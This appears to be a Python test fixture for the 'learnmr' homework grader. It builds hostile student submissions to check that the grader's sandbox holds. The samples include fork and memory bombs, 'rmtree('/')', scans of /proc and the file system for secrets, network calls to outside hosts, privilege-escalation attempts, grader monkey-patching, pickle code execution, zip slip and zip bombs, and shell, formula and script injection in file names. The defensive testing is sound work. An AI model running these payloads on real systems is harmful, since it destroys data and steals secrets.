"""Submissions that mean harm, and honest ones that look odd; tests and ``learnmr bench grading`` share them.

Each is a real file as a student could hand it in, made by code for the homework ``m0.example``: a number, a function, a
network. The answers of the hostile ones are wrong, so full marks of any of them are false. They look for
``CANARY-…``, which the benchmark hides in the key, in another submission and in the environment of the grader.
"""

from __future__ import annotations

import io
import json
import stat
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

__all__ = ["ASSIGNMENT", "HONEST", "HOSTILE", "IN_TESTS", "MARKER", "Case", "honest_notebook", "notebook", "zipped"]

ASSIGNMENT = "m0.example"
#: argument of processes that hostile submissions leave behind, by which they would be found on the host
MARKER = "31415926"

_IMPORTS = "import numpy as np\nimport learnmr"
_RIGHT = (
    _IMPORTS,
    "learnmr.check('m0.example.width', 6.0)",
    "def alias_hz(frequency_hz, bandwidth_hz):\n"
    "    return (frequency_hz + bandwidth_hz / 2) % bandwidth_hz - bandwidth_hz / 2\n"
    "learnmr.check('m0.example.alias', alias_hz)",
    "class Sine:\n    def predict(self, inputs):\n        return np.sin(2 * inputs)\n"
    "learnmr.check('m0.example.sine', Sine())",
)
_WRONG = (
    _IMPORTS,
    "learnmr.check('m0.example.width', 3.0)",
    "def alias_hz(frequency_hz, bandwidth_hz):\n    return frequency_hz\nlearnmr.check('m0.example.alias', alias_hz)",
    "class Zero:\n    def predict(self, inputs):\n        return 0 * inputs\nlearnmr.check('m0.example.sine', Zero())",
)

Files = Mapping[str, bytes]


@dataclass(frozen=True)
class Case:
    """A submission.

    Parameters
    ----------
    name : str
        Of the case, and of its student.
    tries : str
        What it tries, a few words.
    files : callable
        Makes the files by name, as they lie in the folder of the class.
    """

    name: str
    tries: str
    files: Callable[[], Files]


def notebook(*cells: str) -> bytes:
    """A notebook of these code cells."""
    made: list[dict[str, object]] = [
        {
            "cell_type": "code",
            "id": f"cell{number}",
            "metadata": {},
            "source": source,
            "outputs": [],
            "execution_count": None,
        }
        for number, source in enumerate(cells)
    ]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def honest_notebook(right: tuple[bool, bool, bool] = (True, True, True)) -> bytes:
    """A homework with right and wrong answers to its three exercises."""
    return notebook(_IMPORTS, *(_RIGHT[n] if ok else _WRONG[n] for n, ok in enumerate(right, start=1)))


def zipped(members: Mapping[str, bytes], *, links: Mapping[str, str] | None = None) -> bytes:
    """A zip whose names are written as they are given, and links."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            entry = zipfile.ZipInfo(name, (2026, 1, 1, 12, 0, 0))
            entry.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(entry, data)
        for name, target in (links or {}).items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, target)
    return file.getvalue()


def _attack(name: str, tries: str, *code: str, last: bool = False) -> Case:
    """Code that runs before the wrong answers, or after them."""
    cells = (*_WRONG, *code) if last else (_IMPORTS, *code, *_WRONG)
    return Case(name, tries, lambda: {f"{name}.ipynb": notebook(*cells)})


def _answers(name: str, tries: str, *code: str) -> Case:
    """Code that hands in answers of its own after the wrong ones."""
    return Case(name, tries, lambda: {f"{name}.ipynb": notebook(*_WRONG, *code)})


def _files(name: str, tries: str, make: Callable[[], Files]) -> Case:
    return Case(name, tries, make)


_HAND_IN = """
SLUGS = ['m0.example.width', 'm0.example.alias', 'm0.example.sine']
for slug in SLUGS:
    learnmr.check(slug, Evil())
"""
_COLLECT = f"""
import learnmr.course.collecting as collecting
{_HAND_IN.replace("learnmr.check", "collecting.collect")}
"""
_FIND = """
def tell(where, data):
    import re
    found = re.search(b'CANA' + b'RY-[0-9a-f]{24}', data)  # a hidden word, and not the sources of these attacks
    if found:
        raise RuntimeError(f'found in {where}: ' + found[0].decode('latin1'))
"""

_BUSY = (
    _attack(
        "endless-loop",
        "never ends",
        """
while True:
    pass
""",
    ),
    _attack(
        "stubborn-loop",
        "never ends, and cannot be interrupted",
        """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    ),
    _attack(
        "fork-bomb",
        "forks for ever",
        """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    ),
    _attack(
        "left-behind",
        "leaves processes behind that have nothing to do with it any more",
        """
import subprocess
for _ in range(5):
    subprocess.Popen(['sleep', '31415926'], start_new_session=True)
subprocess.run('setsid nohup sleep 31415926 >/dev/null 2>&1 &', shell=True)
""",
    ),
    _attack(
        "thread-bomb",
        "starts threads for ever",
        """
import threading, time
while True:
    try:
        threading.Thread(target=time.sleep, args=(1e6,)).start()
    except RuntimeError:
        pass
""",
    ),
    _attack(
        "memory-bomb",
        "takes all memory",
        """
hoard = []
while True:
    hoard.append(b'x' * 50_000_000)
""",
    ),
    _attack(
        "memory-of-many",
        "takes all memory with many processes",
        """
import os, time
for _ in range(5):
    os.fork()
hoard = []
while True:
    try:
        hoard.append(b'x' * 5_000_000)
    except MemoryError:
        time.sleep(1)
""",
    ),
    _attack(
        "full-disk",
        "fills every disk it can write to",
        """
import os
for folder in ('.', '/tmp', '/dev/shm', '/var/tmp', '/', os.path.expanduser('~')):
    try:
        with open(f'{folder}/big', 'wb') as file:
            while True:
                file.write(b'x' * 10_000_000)
    except OSError as error:
        print(error)
""",
    ),
    _attack(
        "many-files",
        "makes files for ever",
        """
number = 0
while True:
    number += 1
    open(f'/tmp/{number}', 'w').close()
""",
    ),
    _attack(
        "gigabyte-printed",
        "prints 1 GB",
        """
import sys
for _ in range(1000):
    sys.stdout.write('x' * 1_000_000)
""",
    ),
    _attack(
        "gigabyte-past-jupyter",
        "prints 1 GB to every descriptor",
        """
import os
for descriptor in range(0, 64):
    try:
        os.set_blocking(descriptor, False)
        for _ in range(100):
            os.write(descriptor, b'x' * 1_000_000)
    except OSError:
        pass
""",
    ),
)

_SPIES = (
    _attack(
        "reads-proc",
        "reads /proc and the environment",
        _FIND
        + """
import os, glob
tell('environment', repr(os.environ).encode())
for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/mountinfo'):
    try:
        tell(path, open(path, 'rb').read())
    except OSError:
        pass
""",
    ),
    _attack(
        "reads-everything",
        "reads every file for other submissions and the key",
        _FIND
        + """
import os, time
ends = time.time() + 20
roots = '/home /root /work /tmp /var /etc /opt /srv /mnt /run /proc/1/root /submission .. ../..'.split()
for root in roots:
    for folder, _, names in os.walk(root):
        if 'site-packages' in folder or '/usr/' in folder or time.time() > ends:
            continue
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
                    tell(path, open(path, 'rb').read())
            except OSError:
                pass
""",
    ),
    _attack(
        "tries-the-network",
        "connects to the host and the world",
        """
import socket, os
port = PORT
targets = [('127.0.0.1', port), ('localhost', port), ('10.0.2.2', port), ('1.1.1.1', 53), ('example.org', 80)]
for target in targets:
    try:
        socket.create_connection(target, timeout=1).sendall(b'CANARY-out')
        raise RuntimeError(f'CANARY-network reached {target}')
    except OSError as error:
        print(error)
""",
    ),
    _attack(
        "wants-to-be-root",
        "tries for more rights",
        """
import os, ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
settings = '/proc/sys/kernel/core_pattern /proc/sys/kernel/hostname /proc/sysrq-trigger /sys/fs/cgroup/cgroup.procs'
for path in [*settings.split(), '/etc/passwd', '/proc/1/mem', '/dev/mem', '/dev/sda']:
    try:
        open(path, 'w').write('CANARY')
        raise RuntimeError('CANARY-written ' + path)
    except OSError:
        pass
for call in (lambda: os.setuid(0), lambda: os.chroot('/'), lambda: os.mknod('/tmp/sda', 0o60666, 0x0800)):
    try:
        call()
        if os.getuid() == 0:
            raise RuntimeError('CANARY-root')
    except OSError:
        pass
libc.unshare(0x10000000)
libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)
libc.ptrace(16, 1, 0, 0)
""",
    ),
)

_VANDALS = (
    _attack(
        "deletes-files",
        "deletes everything",
        """
import os, shutil
shutil.rmtree('/', ignore_errors=True)
for folder, _, names in os.walk('/'):
    for name in names:
        try:
            os.unlink(os.path.join(folder, name))
        except OSError:
            pass
""",
    ),
    _attack(
        "edits-its-checks",
        "writes into the files of learnmr",
        """
import learnmr.course.checks.m0_example as checks, os
for path in (checks.__file__, learnmr.__file__):
    try:
        os.chmod(path, 0o777)
    except OSError:
        pass
    try:
        open(path, 'w').write('')
        raise RuntimeError('CANARY-written')
    except OSError:
        pass
""",
    ),
    _attack(
        "kills-its-parent",
        "kills the program that runs it",
        """
import os
os.kill(os.getppid(), 9)
""",
    ),
    _attack(
        "kills-everybody",
        "kills every process it can see",
        """
import os
for pid in (1, -1):
    try:
        os.kill(pid, 9)
    except OSError:
        pass
""",
    ),
    _attack(
        "exits",
        "ends its kernel",
        """
import os
os._exit(0)
""",
    ),
    _attack(
        "crashes",
        "crashes the interpreter",
        """
import ctypes
ctypes.string_at(0)
""",
    ),
    _answers(
        "crashes-when-asked",
        "crashes the interpreter when its function is called",
        """
import os
def alias_hz(frequency_hz, bandwidth_hz):
    os._exit(3)
import learnmr.course.collecting as collecting
collecting.collect('m0.example.alias', alias_hz)
""",
    ),
)

_CHEATS = (
    _attack(
        "patches-learnmr",
        "makes learnmr report full marks",
        """
import learnmr.course.checking as checking, learnmr.course.exercises as exercises
import learnmr.course.grading.examining as examining, learnmr.course.records as records
checking.CheckResult.passed = property(lambda self: True)
checking.CheckResult.score = property(lambda self: 1.0)
checking._try_property = lambda *anything: (True, '', True)
exercises.close = lambda *a, **k: True
exercises.Property.holds = lambda *a, **k: True
examining.exercise_item = lambda *a, **k: 1.0
np.allclose = np.isfinite = lambda *a, **k: True
records.note_attempt = lambda *a, **k: None
""",
    ),
    _attack(
        "hands-in-a-score",
        "hands in its own result",
        """
import learnmr.course.collecting as collecting
for name in ('score', 'points', 'm0.example', 'm0.example.width.score', '../results/ada', '__class__'):
    collecting.collect(name, 1.0)
for number in range(2000):
    collecting.collect('x' * number, {'score': 1.0, 'passed': True})
""",
        last=True,
    ),
    _answers(
        "equal-to-everything",
        "hands in objects that equal and lie about everything",
        """
class Evil(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    __hash__ = float.__hash__
    def __float__(self): return 6.0
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __call__(self, *a, **k): return Evil(3.0)
    def predict(self, inputs, **k): return Evil(3.0)
"""
        + _HAND_IN,
    ),
    _answers(
        "lying-array",
        "hands in objects that pretend to be arrays",
        """
class Evil:
    shape, ndim, dtype = (), 0, np.dtype(float)
    __array_interface__ = {'shape': (1,), 'typestr': '<f8', 'data': (0, False), 'version': 3}
    def __array__(self, *a, **k): return np.array([object()], dtype=object)
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    def predict(self, inputs): return Evil()
"""
        + _HAND_IN,
    ),
    _answers(
        "huge-answers",
        "hands in arrays without end",
        """
huge = np.broadcast_to(1.0, (10**6, 10**6))
class Evil:
    def predict(self, inputs): return huge
    def __call__(self, *a): return np.zeros(10**10)
"""
        + _HAND_IN
        + """
learnmr.check(SLUGS[0], huge)
""",
    ),
    _answers(
        "recursive-answers",
        "hands in structures that contain themselves",
        """
loop = []
loop.append(loop)
self_ = {}
self_['self'] = self_
learnmr.check('m0.example.width', loop)
learnmr.check('m0.example.alias', lambda *a: self_)
class Evil:
    def predict(self, inputs):
        return loop
learnmr.check('m0.example.sine', Evil())
""",
    ),
    _answers(
        "pickles",
        "hands in objects that run code when they are unpickled",
        """
import os
class Evil:
    def __reduce__(self):
        return (os.system, ('sleep 31415926 &',))
    def predict(self, inputs):
        return np.array([Evil()], dtype=object)
    def __call__(self, *a):
        return Evil()
"""
        + _HAND_IN
        + """
learnmr.check(SLUGS[0], np.array([Evil()], dtype=object))
""",
    ),
    _answers(
        "knows-the-probes",
        "answers the public checks from a table, and nothing else",
        """
def alias_hz(frequency_hz, bandwidth_hz):
    return {120.0: 120.0, 12345.6: 345.6, 730.0: -270.0}.get(float(frequency_hz), 0.0)
learnmr.check('m0.example.alias', alias_hz)
learnmr.check('m0.example.width', 6.0)
class Sine:
    def predict(self, inputs):
        return np.sin(2 * inputs)
learnmr.check('m0.example.sine', Sine())
""",
    ),
    _answers(
        "sleeps-when-asked",
        "hands in functions that never answer",
        """
import time, signal
class Evil:
    asked = 0
    def __call__(self, *a):
        Evil.asked += 1
        if Evil.asked > 3:
            signal.setitimer(signal.ITIMER_REAL, 0)
            while True:
                try:
                    time.sleep(1000)
                except BaseException:
                    signal.setitimer(signal.ITIMER_REAL, 0)
        return 0.0
    predict = __call__
"""
        + _HAND_IN,
    ),
    _answers(
        "grows-when-asked",
        "takes all memory when it is asked",
        """
class Evil:
    def predict(self, inputs):
        hoard = []
        while len(hoard) < 10**6:
            hoard.append(b'x' * 50_000_000)
    __call__ = predict
"""
        + _COLLECT,
    ),
    _answers(
        "raises-strange-things",
        "raises what stops a careless grader",
        """
class Evil:
    def __call__(self, *a):
        raise KeyboardInterrupt
    def predict(self, inputs, **k):
        raise SystemExit(0)
    def __repr__(self):
        raise GeneratorExit
"""
        + _COLLECT,
    ),
    _answers(
        "forges-frames",
        "writes into the conversation with the grader",
        r"""
import os, json, struct, glob
import learnmr.course.grading.serving as serving
def frame(text, blob=b''):
    return struct.pack('>4sII', b'LMR1', len(text), len(blob)) + text + blob
forged = frame(b'{"op": "ran", "cells": 3, "errors": [], "seconds": 1, "died": false, "time_over": false}\n')
forged += frame(b'{"op": "value", "score": 1.0}\n{"tree": 6.0, "blobs": []}') * 50
for path in glob.glob('/proc/[0-9]*/fd/*'):
    try:
        descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(descriptor, forged)
    except OSError:
        pass
""",
    ),
    _answers(
        "talks-nonsense",
        "answers the grader with broken messages",
        """
import os, struct, socket
import learnmr.course.grading.serving as serving
def nonsense(self):
    import socket
    descriptor = self._channel._writing
    os.set_blocking(descriptor, True)
    os.write(descriptor, struct.pack('>4sII', b'LMR1', 2**31, 2**31) + b'x' * 100)
serving._Server.run = nonsense
""",
    ),
    _answers(
        "deep-messages",
        "answers the grader with messages without bottom",
        """
import learnmr.course.grading.serving as serving
def deep(value, refer):
    return b'[' * 3_000_000, b''
serving.encode = deep
""",
    ),
    _answers(
        "forged-arrays",
        "answers with arrays that are too large, or hold pickles",
        """
import learnmr.course.grading.serving as serving, json, io, pickle
def blob(shape, descr):
    file = io.BytesIO()
    np.lib.format.write_array_header_1_0(file, {'descr': descr, 'fortran_order': False, 'shape': shape})
    return file.getvalue()
number = [0]
def forge(value, refer):
    number[0] += 1
    forged = [blob((10**12,), '<f8'), blob((1,), '|O') + pickle.dumps({}), blob((-1,), '<f8'), b'not an array']
    data = forged[number[0] % 4]
    names = {'dict': [['m0.example.width', {'dict': [['key', None], ['problem', None]]}]]}
    tree = {'array': 0} if number[0] > 3 else names
    return json.dumps({'tree': tree, 'blobs': [[0, len(data)]]}).encode(), data
serving.encode = forge
""",
    ),
    _answers(
        "endless-objects",
        "answers with objects that have all names, for ever",
        """
class Evil:
    def __getattr__(self, name): return Evil()
    def __call__(self, *a, **k): return Evil()
"""
        + _HAND_IN,
    ),
    _answers(
        "speaks-in-markup",
        "says what a page or a spreadsheet would take for a program",
        """
raise RuntimeError('<script>alert(1)</script><img src=x onerror=alert(1)> =HYPERLINK("http://evil")')
""",
        r"""
class Evil(Exception):
    pass
Evil.__name__ = '=cmd|\' /C calc\'!A0<script>'
raise Evil('\x1b[2J@SUM(1)')
""",
    ),
)


def _bomb() -> bytes:
    """A small zip that would be gigabytes, and zips within zips."""
    zeros = bytes(200_000_000)
    inner = zipped({f"{number}.ipynb": zeros for number in range(3)})
    return zipped({"a.ipynb": zeros, "inner.zip": zipped({"more.zip": zipped({"last.zip": inner})}), "b.zip": inner})


def _many_members() -> bytes:
    return zipped({f"folder{number % 7}/{number}.txt": b"" for number in range(20_000)})


_PACKERS = (
    _files(
        "malformed-json", "hands in half a notebook", lambda: {"malformed-json.ipynb": b'{"cells": [{"cell_type": "co'}
    ),
    _files("empty-file", "hands in nothing", lambda: {"empty-file.ipynb": b""}),
    _files("no-notebook", "hands in noise", lambda: {"no-notebook.ipynb": bytes(range(256)) * 400}),
    _files("deep-json", "hands in JSON without bottom", lambda: {"deep-json.ipynb": b"[" * 1_000_000}),
    _files(
        "strange-cells",
        "hands in a notebook of the wrong types",
        lambda: {
            "strange-cells.ipynb": b'{"cells": [null, 3, {"cell_type": "code", "source": {"a": 1}}], "metadata": []}'
        },
    ),
    _files(
        "zip-slip",
        "a zip whose names point outside",
        lambda: {
            "zip-slip.zip": zipped(
                {"../../../../tmp/CANARY-slip.ipynb": _w(), "/tmp/CANARY-slip2.ipynb": _w(), "C:\\CANARY.ipynb": _w()}
            )
        },
    ),
    _files("zip-bomb", "a zip that unpacks to gigabytes", lambda: {"zip-bomb.zip": _bomb()}),
    _files("zip-of-many", "a zip of very many files", lambda: {"zip-of-many.zip": _many_members()}),
    _files(
        "zip-links",
        "a zip with links to the host's files",
        lambda: {
            "zip-links.zip": zipped(
                {"zip-links.ipynb": _w()}, links={"a.ipynb": "/etc/passwd", "b.csv": "../../honest/honest.ipynb"}
            )
        },
    ),
    _files("broken-zip", "half a zip", lambda: {"broken-zip.zip": zipped({"a.ipynb": _w()})[:-30]}),
    _files(
        "hostile-names",
        "names that a shell, a page or a spreadsheet would run",
        lambda: {
            "hostile-names.zip": zipped(
                {
                    "$(touch CANARY).ipynb": _w(),
                    "=cmd|' /C calc'!A0.ipynb": _w(),
                    "<script>alert(1)</script>.ipynb": _w(),
                    "\u202egnp.ipynb": _w(),
                    "a\nb\x00c.ipynb": _w(),
                    "x" * 300 + ".ipynb": _w(),
                    "nul.ipynb": _w(),
                    "-rf.ipynb": _w(),
                }
            )
        },
    ),
)


def _w() -> bytes:
    """The wrong answers."""
    return notebook(*_WRONG)


HOSTILE: tuple[Case, ...] = (*_BUSY, *_SPIES, *_VANDALS, *_CHEATS, *_PACKERS)


def _renamed() -> bytes:
    """Cells renamed, moved, split and merged; strange metadata; the last answer counts."""
    document = json.loads(notebook(_IMPORTS, _WRONG[2], _RIGHT[3] + "\n" + _RIGHT[1], _RIGHT[2]))
    for number, cell in enumerate(document["cells"]):
        cell["id"] = f"my-own-{number}"
        cell["metadata"] = {"tags": ["mine"], "collapsed": True, "learnmr": {"exercise": "renamed"}}
    document["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": ["# mine\n"]})
    return json.dumps(document).encode()


HONEST: tuple[Case, ...] = (
    Case("plain", "hands in what was asked", lambda: {"plain.ipynb": honest_notebook()}),
    Case("renamed-cells", "renames, moves and merges cells", lambda: {"renamed-cells.ipynb": _renamed()}),
    Case(
        "errors-elsewhere",
        "has cells that fail, and one that takes too long",
        lambda: {
            "errors-elsewhere.ipynb": notebook(*_RIGHT, "1 / 0", "import time\ntime.sleep(1000)", "raise SystemExit")
        },
    ),
    Case(
        "byte-order-mark",
        "saved with a byte-order mark",
        lambda: {"byte-order-mark.ipynb": b"\xef\xbb\xbf" + honest_notebook()},
    ),
    Case(
        "zip-in-zip",
        "a zip in a zip in a folder with umlauts",
        lambda: {"zip-in-zip.zip": zipped({"Übung 1/abgabe.zip": zipped({"Übung/lösung.ipynb": honest_notebook()})})},
    ),
)
#: those that the tests run for real, few seconds each
IN_TESTS = (
    "fork-bomb",
    "memory-bomb",
    "reads-proc",
    "patches-learnmr",
    "knows-the-probes",
    "malformed-json",
    "zip-slip",
)
